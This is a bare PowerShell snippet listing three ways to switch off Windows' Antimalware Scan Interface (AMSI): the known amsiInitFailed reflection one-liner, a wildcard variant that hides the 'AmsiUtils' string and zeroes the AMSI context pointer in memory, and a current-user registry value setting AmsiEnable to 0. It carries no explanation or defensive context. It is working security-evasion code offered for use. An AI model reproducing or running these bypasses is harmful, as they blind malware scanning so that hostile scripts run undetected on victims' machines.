# 1. the one-liner everybody knows
[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed', 'NonPublic,Static').SetValue($null, $true)

# 2. type found by wildcard so the string never appears
$t = [Ref].Assembly.GetTypes() | Where-Object { $_.Name -like '*siUtils' }
$f = $t.GetFields('NonPublic,Static') | Where-Object { $_.Name -like '*Context' }
[IntPtr]$ptr = $f.GetValue($null)
[Int32[]]$zero = @(0)
[System.Runtime.InteropServices.Marshal]::Copy($zero, 0, $ptr, 1)

# 3. registry switch for the current user
Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows Script\Settings' -Name 'AmsiEnable' -Value 0
